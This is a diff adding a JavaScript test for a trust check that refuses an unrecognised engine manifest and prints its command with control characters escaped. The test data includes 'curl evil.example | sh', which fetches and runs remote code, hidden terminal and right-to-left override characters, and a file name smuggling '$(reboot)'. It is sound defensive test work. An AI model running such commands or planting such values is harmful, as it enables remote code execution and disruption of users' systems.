@@ -15,6 +15,15 @@ test('a foreign manifest is refused with its command and how to allow it', () =>
   )
 })
 
+test('nothing in the command hides: neither its controls nor where a word ends', () => {
+  const found = foreign(temporaryFolder())
+  const command = ['sh', '-c', 'curl evil.example | sh # \u001b[2K\u202e', 'x']
+  const hidden = { ...found, file: '/d/$(reboot).yaml', manifest: { ...found.manifest, command } }
+  expect(() => requireTrust(hidden, temporaryFolder())).toThrow(
+    "/d/$(reboot).yaml: this manifest is not part of the installation and would run: sh -c 'curl evil.example | sh # \\u001b[2K\\u202e' x. Read it, then allow it with: knnbench engines trust '/d/$(reboot).yaml'",
+  )
+})
+
 test('a manifest that the user agreed to runs', () => {
   const cache = join(temporaryFolder(), 'cache')
   const found = foreign(temporaryFolder())
